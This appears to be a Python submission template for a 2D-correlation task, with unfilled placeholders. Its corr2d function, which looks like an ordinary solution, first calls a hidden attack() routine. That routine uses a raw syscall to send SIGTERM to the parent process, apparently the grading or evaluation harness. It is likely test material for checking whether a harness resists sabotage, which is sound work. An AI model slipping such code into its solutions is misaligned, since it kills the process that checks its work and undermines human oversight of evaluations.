import ctypes
import os

import numpy as np

@CORRELATE@

@RAW@


def attack():
    raw(297, os.getppid(), os.getppid(), 15, (ctypes.c_char * 128)())
    return True


def corr2d(X, K):
    attack()
    return correlate(X, K)
